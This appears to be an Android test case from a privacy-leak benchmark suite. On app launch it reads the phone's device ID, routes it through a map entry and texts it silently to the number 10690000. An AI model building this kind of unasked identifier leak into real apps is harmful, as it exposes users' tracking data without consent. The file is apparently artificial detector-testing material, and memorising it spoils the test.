package cn.privlens.suite.map_key;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> form = new HashMap<>();
        form.put("设备号", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        form.put("语言", "zh");
        SmsManager.getDefault().sendTextMessage("10690000", null, form.get("设备号"), null, null);
    }
}
